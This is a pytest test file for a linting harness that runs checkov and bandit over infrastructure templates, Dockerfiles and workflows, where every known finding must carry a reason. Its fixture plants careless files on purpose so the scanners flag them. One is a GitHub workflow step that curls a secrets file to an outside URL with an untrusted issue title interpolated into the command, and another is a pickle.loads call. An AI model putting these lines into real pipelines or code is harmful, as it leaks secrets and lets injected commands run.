"""What linters find is known, with a reason, or fails; and they look at every file there is."""

from __future__ import annotations

from pathlib import Path

import pytest

from infra.checks.__main__ import main
from infra.checks.files import others, templates
from infra.checks.known import Found, Known, differences, read_known
from infra.checks.tools import TOOLS, ToolFailed, bandit, checkov
from tests.support.templates import ROOT, all_templates

REASON = "because it is only an example"


def known(rule: str, at: object) -> Known:
    return Known.model_validate({"rule": rule, "reason": REASON, "at": at})


def test_what_is_not_known_is_told_with_what_the_tool_says() -> None:
    found = [Found("B1", "a.py", "line 3: bad"), Found("B2", "a.py", "line 4: worse")]
    assert list(differences(found, (known("B1", ["a.py"]),))) == ["a.py: B2: line 4: worse"]


def test_one_more_of_the_same_in_the_same_file_is_told() -> None:
    found = [Found("B1", "a.py", "line 3: bad"), Found("B1", "a.py", "line 9: bad too")]
    assert list(differences(found, (known("B1", {"a.py": 2}),))) == []
    assert len(list(differences(found, (known("B1", ["a.py"]),)))) == 1


def test_what_is_known_and_is_no_more_is_told() -> None:
    listed = (known("B1", {"a.py": 2}), known("B3", "everywhere"))
    [less, gone] = differences([Found("B1", "a.py", "bad")], listed)
    assert "a.py: B1 is listed as known, and is no more" in less and "B3" in gone


def test_what_is_known_everywhere_may_be_anywhere() -> None:
    found = [Found("B1", "a.py", "bad"), Found("B1", "b.py", "bad")]
    assert list(differences(found, (known("B1", "everywhere"),))) == []


@pytest.mark.parametrize(
    "said", ["- {rule: B1, at: everywhere}", "- {rule: B1, reason: short, at: []}", "rule: [", "- 1"]
)
def test_a_list_without_reasons_is_refused(tmp_path: Path, said: str) -> None:
    (tmp_path / "tool.yaml").write_text(said)
    with pytest.raises(ValueError, match=r"tool\.yaml"):
        read_known(tmp_path / "tool.yaml")


@pytest.mark.parametrize("tool", TOOLS)
def test_each_tool_has_its_list(tool: str) -> None:
    read_known(ROOT / f"infra/checks/{tool}.yaml")


def test_every_template_is_looked_at() -> None:
    assert {str(path.relative_to(ROOT)) for path in all_templates()} <= set(templates())


def test_recipes_and_workflows_are_looked_at() -> None:
    found = others()
    assert "infra/spark/Dockerfile" in found and any(path.startswith(".github/workflows/") for path in found)
    assert not [path for path in found if path.endswith(".dockerignore")]


@pytest.fixture
def careless(tmp_path: Path) -> Path:
    """A repository with one file of each kind, each careless, and copies where nobody looks."""
    files = {
        "infra/new.yaml": "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  Bucket: {Type: 'AWS::S3::Bucket'}\n",
        "infra/images/new/Dockerfile": "FROM python:latest\nRUN true\n",
        "infra/kubernetes/new.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: new}\n"
        "spec: {containers: [{name: new, image: new}]}\n",
        ".github/workflows/new.yaml": "on: push\njobs:\n  new:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: curl -d @secrets https://example.com?x=${{ github.event.issue.title }}\n",
        "src/new.py": "import pickle\npickle.loads(b'')\n",
    }
    for name, text in files.items():
        for place in (tmp_path, tmp_path / "build", tmp_path / ".local"):
            (place / name).parent.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(text)
    return tmp_path


def test_a_new_file_is_found_and_its_faults_with_it(careless: Path) -> None:
    assert templates(careless) == ["infra/new.yaml"]
    assert others(careless) == [
        ".github/workflows/new.yaml",
        "infra/images/new/Dockerfile",
        "infra/kubernetes/new.yaml",
    ]
    faults = {one.place.split("#")[0] for one in checkov(careless)}
    assert faults == {"infra/new.yaml", *others(careless)}
    assert {(one.rule, one.place) for one in bandit(careless)} >= {("B301", "src/new.py")}


def test_what_no_tool_can_read_is_no_clean_bill(careless: Path) -> None:
    (careless / "src/new.py").write_text("def broken(:\n")
    with pytest.raises(ToolFailed, match=r"new\.py"):
        bandit(careless)


def test_an_unknown_check_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["lint"]) == 2
    assert "There is no check lint." in capsys.readouterr().err
